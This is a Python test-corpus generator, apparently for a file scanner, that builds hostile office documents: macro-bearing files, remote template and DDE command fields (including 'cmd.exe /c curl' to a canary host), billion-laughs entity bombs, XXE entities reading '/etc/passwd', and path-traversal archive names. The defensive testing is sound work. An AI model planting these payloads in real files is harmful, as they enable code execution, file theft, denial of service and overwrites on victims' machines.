"""Office files with macros, with parts elsewhere, with entities, with names that climb."""

from __future__ import annotations

import itertools
import struct
from random import Random

from tests.corpus import office, ole
from tests.corpus.hostile.made import Made, made, words

_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_URL_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")


def _docx(chance: Random, **extra: str | bytes) -> bytes:
    return office.docx(office.paragraph(words(chance)), extra=extra)


def _odt(body: str, extra: dict[str, str] | None = None, scripts: str = "") -> bytes:
    return office.odf(office.ODT, f"<office:text>{body}</office:text>", extra, scripts)


def _book(chance: Random, sheet_kind: int) -> bytes:
    """The list of sheets of an old workbook with one sheet of this kind."""
    sheet = struct.pack("<IBBBB", 0, 0, sheet_kind, 3, 0) + b"abc"
    records = ((0x0809, struct.pack("<HHHHII", 0x0600, 5, 0, 0, 0, 0)), (0x0085, sheet), (0x000A, b""))
    return b"".join(struct.pack("<HH", kind, len(body)) + body for kind, body in records).ljust(4096, b"\0")


def macros(variant: int, chance: Random, canary: str) -> Made:
    project = ole.storage({"VBA": {"dir": chance.randbytes(90)}})
    event = (
        '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners></office:scripts>"
    )
    paragraph = f"<text:p>{words(chance)}</text:p>"
    name, content = [
        ("a.docm", office.docx(office.paragraph("x"), macros=True, extra={"word/vbaProject.bin": project})),
        ("a.docx", _docx(chance, **{"word/VBAPROJECT.BIN": project})),
        ("a.xlsm", office.xlsx({"a": ""}, extra={"xl/vbaProject.bin": project})),
        ("a.xlsx", office.xlsx({"a": ""}, extra={"xl/macrosheets/sheet1.xml": "<xm:macrosheet xmlns:xm='x'/>"})),
        ("a.doc", ole.storage({"WordDocument": bytes(4096), "Macros": {"VBA": {"dir": chance.randbytes(90)}}})),
        ("a.xls", ole.storage({"Workbook": _book(chance, 1)})),
        ("a.odt", _odt(paragraph, {"Basic/Standard/Module1.xml": "<script:module xmlns:script='x'/>"})),
        ("a.odt", _odt(paragraph, scripts=event)),
    ][variant]
    return made(name, content, "macros")


def external(variant: int, chance: Random, canary: str) -> Made:
    url = f"http://{canary}/{words(chance, 1)}.dotm"

    def related(kind: str, target: str) -> str:
        return _RELATIONS.format(
            f'<Relationship Id="r9" Type="{_KIND}{kind}" Target="{target}" TargetMode="External"/>'
        )

    dde = office.field(f'DDEAUTO c:\\\\windows\\\\cmd.exe "/c curl {url}"', "x")
    template = f"{{\\rtf1{{\\*\\template {url}}}{words(chance)}}}".encode()
    linked = f"{{\\rtf1{{\\object\\objautlink\\objupdate{{\\*\\objdata 0105}}}}{words(chance)}}}".encode()
    link = struct.pack("<II", 0x02000001, 1) + _URL_MONIKER + url.encode("utf-16-le")
    source = f'<text:section text:name="a"><text:section-source xlink:href="{url}"/></text:section>'
    ddelink = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    name, content = [
        ("a.docx", _docx(chance, **{"word/_rels/settings.xml.rels": related("attachedTemplate", url)})),
        ("a.docx", _docx(chance, **{"word/_rels/x.xml.rels": related("oleObject", f"file://///{canary}/share/a")})),
        ("a.docx", office.docx(dde)),
        ("a.rtf", template),
        ("a.rtf", linked),
        ("a.odt", _odt(source)),
        ("a.xlsx", office.xlsx({"a": ""}, extra={"xl/externalLinks/externalLink1.xml": ddelink})),
        ("a.doc", ole.storage({"WordDocument": bytes(4096), "ObjectPool": {"_1": {"\x01Ole": link}}})),
    ][variant]
    return made(name, content, "external_reference")


def _with_part(variant: int, chance: Random, part: str | bytes) -> tuple[str, bytes]:
    """The part in one of four kinds of office files."""
    if variant % 4 == 0:
        return "a.docx", _docx(chance, **{"word/footnotes.xml": part})
    if variant % 4 == 1:
        return "a.xlsx", office.xlsx({"a": ""}, extra={"xl/comments1.xml": part})
    if variant % 4 == 2:
        return "a.odt", _odt(
            f"<text:p>{words(chance)}</text:p>",
            {"styles.xml": str(part) if isinstance(part, str) else part.decode("utf-16")},
        )
    return "a.docx", _docx(chance, **{"customXml/item1.xml": part})


def entities(variant: int, chance: Random, canary: str) -> Made:
    names = "abcdefghij"
    laughs = "".join(f'<!ENTITY {one} "{f"&{two};" * 10}">' for one, two in itertools.pairwise(names))
    much = "A" * 50_000
    bomb = (
        f'<!DOCTYPE l [<!ENTITY j "lol">{laughs}]><l>&a;</l>'
        if variant < 4
        else f'<!DOCTYPE l [<!ENTITY a "{much}">]><l>{"&a;" * 5000}</l>'
    )
    part: str | bytes = f'<?xml version="1.0"?>{bomb}'
    if variant in (3, 7):
        part = f'<?xml version="1.0" encoding="UTF-16"?>{bomb}'.encode("utf-16")
    name, content = _with_part(variant, chance, part)
    return made(name, content, "expands_too_far")


def outside_entities(variant: int, chance: Random, canary: str) -> Made:
    url = f"http://{canary}/{words(chance, 1)}"
    declared = [
        '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>',
        f'<!DOCTYPE l [<!ENTITY x SYSTEM "{url}">]><l>&x;</l>',
        f'<!DOCTYPE l [<!ENTITY % x SYSTEM "{url}"> %x;]><l/>',
        f'<!DOCTYPE l PUBLIC "-//x//EN" "{url}"><l/>',
        f"<!DOCTYPE l [<!ENTITY x PUBLIC '-//x//EN' '{url}'>]><l>&x;</l>",
        f'<!DOCTYPE l SYSTEM "{url}"><l/>',
        '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///dev/zero">]><l>&x;</l>',
        '<!DOCTYPE l [<!ENTITY x SYSTEM "expect://id">]><l>&x;</l>',
    ][variant]
    name, content = _with_part(variant, chance, f'<?xml version="1.0"?>{declared}')
    return made(name, content, "external_reference")


def climbing(variant: int, chance: Random, canary: str) -> Made:
    climbs = (
        "../../../../tmp/evil", "/etc/cron.d/evil", "word/../../../evil.xml", "..\\..\\evil.exe",
        "C:\\Windows\\evil.dll", "xl/media/../../../../evil", "Pictures/../../evil", "../[Content_Types].xml",
    )  # fmt: skip
    evil = {climbs[variant]: chance.randbytes(60)}
    if variant % 3 == 0:
        return made("a.docx", _docx(chance, **evil), "unsafe_name")
    if variant % 3 == 1:
        return made("a.xlsx", office.xlsx({"a": ""}, extra=evil), "unsafe_name")
    return made("a.odt", _odt(f"<text:p>{words(chance)}</text:p>", {climbs[variant]: "x"}), "unsafe_name")
